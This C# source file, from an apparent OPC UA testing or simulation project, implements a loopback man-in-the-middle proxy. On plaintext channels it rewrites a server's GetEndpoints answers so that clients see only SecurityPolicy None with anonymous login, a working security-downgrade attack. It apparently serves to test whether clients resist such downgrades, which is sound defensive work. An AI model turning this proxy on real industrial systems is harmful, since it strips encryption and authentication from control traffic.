using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using Twin.OpcUa.Encoding;
using Twin.OpcUa.Messages;
using Twin.OpcUa.SecureChannel;
using Twin.OpcUa.Transport;

namespace Twin.Actors.Attacks;

/// <summary>
/// A man in the middle on loopback: relays UA-TCP between a client and a server byte for byte, except that on a channel
/// opened with SecurityPolicy None it rewrites the server's GetEndpoints answer with <see cref="Rewrite"/> — by default,
/// every secure endpoint is dropped and only SecurityPolicy None is offered (a downgrade). Secure channels pass untouched:
/// their bodies are signed, and a changed byte would only break them.
/// </summary>
public sealed class DiscoveryRewritingProxy : IAsyncDisposable
{
    private readonly TcpListener _listener = new(IPAddress.Loopback, 0);
    private readonly string _serverUrl;
    private readonly CancellationTokenSource _stop = new();
    private readonly Task _accepting;
    private int _rewritten;

    /// <summary>Starts relaying to <paramref name="serverUrl"/> (opc.tcp://host:port); <paramref name="rewrite"/> alters the endpoints of each discovery answer.</summary>
    public DiscoveryRewritingProxy(string serverUrl, Func<EndpointDescription[], EndpointDescription[]>? rewrite = null)
    {
        _serverUrl = serverUrl ?? throw new ArgumentNullException(nameof(serverUrl));
        Rewrite = rewrite ?? OnlyNone;
        _listener.Start();
        EndpointUrl = $"opc.tcp://127.0.0.1:{((IPEndPoint)_listener.LocalEndpoint).Port}";
        _accepting = AcceptAsync();
    }

    /// <summary>Where clients connect instead of the server.</summary>
    public string EndpointUrl { get; }

    /// <summary>What the proxy does to the endpoints of a discovery answer.</summary>
    public Func<EndpointDescription[], EndpointDescription[]> Rewrite { get; }

    /// <summary>How many GetEndpoints answers were rewritten so far.</summary>
    public int Rewritten => Volatile.Read(ref _rewritten);

    /// <summary>The downgrade: one endpoint, SecurityPolicy None with an anonymous token, built from the server's first.</summary>
    public static EndpointDescription[] OnlyNone(EndpointDescription[] endpoints)
    {
        ArgumentNullException.ThrowIfNull(endpoints);
        if (endpoints.Length == 0) return endpoints;
        var first = endpoints[0];
        return [new EndpointDescription
        {
            EndpointUrl = first.EndpointUrl, Server = first.Server, ServerCertificate = null, SecurityMode = MessageSecurityMode.None,
            SecurityPolicyUri = SecurityPolicies.None, TransportProfileUri = first.TransportProfileUri, SecurityLevel = 0,
            UserIdentityTokens = [new UserTokenPolicy { PolicyId = "anonymous", TokenType = UserTokenType.Anonymous }],
        }];
    }

    /// <summary>A milder downgrade: only the Sign endpoints stay (SignAndEncrypt is dropped).</summary>
    public static EndpointDescription[] OnlySign(EndpointDescription[] endpoints) =>
        [.. (endpoints ?? throw new ArgumentNullException(nameof(endpoints))).Where(e => e.SecurityMode == MessageSecurityMode.Sign)];

    private async Task AcceptAsync()
    {
        var target = new Uri(_serverUrl);
        while (!_stop.IsCancellationRequested)
        {
            TcpClient client;
            try { client = await _listener.AcceptTcpClientAsync(_stop.Token).ConfigureAwait(false); }
            catch (Exception e) when (e is OperationCanceledException or ObjectDisposedException or SocketException) { return; }
            _ = RelayAsync(client, target.Host, target.Port);
        }
    }

    private async Task RelayAsync(TcpClient client, string host, int port)
    {
        using var _ = client;
        using var server = new TcpClient();
        try
        {
            await server.ConnectAsync(host, port, _stop.Token).ConfigureAwait(false);
            var plaintext = new StrongBox<bool>(false);
            var up = PumpAsync(client.GetStream(), server.GetStream(), fromServer: false, plaintext);
            var down = PumpAsync(server.GetStream(), client.GetStream(), fromServer: true, plaintext);
            await Task.WhenAny(up, down).ConfigureAwait(false);
        }
        catch (Exception e) when (e is IOException or SocketException or OperationCanceledException or ObjectDisposedException) { }
    }

    private sealed class StrongBox<T>(T value)
    {
        public T Value { get; set; } = value;
    }

    // Frame by frame: the client's OPN says whether the channel is plaintext; on such a channel the server's MSG answers are inspected.
    private async Task PumpAsync(Stream from, Stream to, bool fromServer, StrongBox<bool> plaintext)
    {
        var header = new byte[TcpMessages.HeaderSize];
        while (!_stop.IsCancellationRequested)
        {
            await from.ReadExactlyAsync(header, _stop.Token).ConfigureAwait(false);
            var size = BinaryPrimitives.ReadInt32LittleEndian(header.AsSpan(4));
            if (size < TcpMessages.HeaderSize || size > 16 * 1024 * 1024) return;
            var frame = new byte[size];
            header.CopyTo(frame, 0);
            await from.ReadExactlyAsync(frame.AsMemory(TcpMessages.HeaderSize), _stop.Token).ConfigureAwait(false);
            var type = TcpMessages.ParseType(header);
            if (!fromServer && type == MessageType.OpenChannel)
                plaintext.Value = MessageChunk.Parse(new Frame(type.Value, header[3], frame), EncodingLimits.Default).Asymmetric?.SecurityPolicyUri == SecurityPolicies.None;
            if (fromServer && plaintext.Value && type == MessageType.Message && header[3] == (byte)'F')
                frame = RewriteDiscovery(frame) ?? frame;
            await to.WriteAsync(frame, _stop.Token).ConfigureAwait(false);
        }
    }

    private byte[]? RewriteDiscovery(byte[] frame)
    {
        var chunk = MessageChunk.Parse(new Frame(MessageType.Message, (byte)'F', frame), EncodingLimits.Default);
        var d = new BinaryDecoder(chunk.Body);
        var typeId = d.ReadNodeId();
        var answer = new GetEndpointsResponse();
        if (typeId != answer.BinaryEncodingId) return null;
        answer.Decode(d);
        answer.Endpoints = Rewrite(answer.Endpoints ?? []);
        var body = new BinaryEncoder(4096);
        body.WriteNodeId(typeId);
        answer.Encode(body);
        Interlocked.Increment(ref _rewritten);
        var chunks = MessageChunk.Encode(MessageType.Message, chunk.ChannelId, null, chunk.TokenId, () => chunk.SequenceNumber, chunk.RequestId,
            body.Written, maxChunkSize: 1 << 20, maxMessageSize: 0, maxChunkCount: 0, tooLargeStatus: StatusCodes.BadResponseTooLarge);
        return chunks[0];
    }

    /// <inheritdoc />
    public async ValueTask DisposeAsync()
    {
        await _stop.CancelAsync().ConfigureAwait(false);
        _listener.Stop();
        await _accepting.ConfigureAwait(false);
        _stop.Dispose();
    }
}
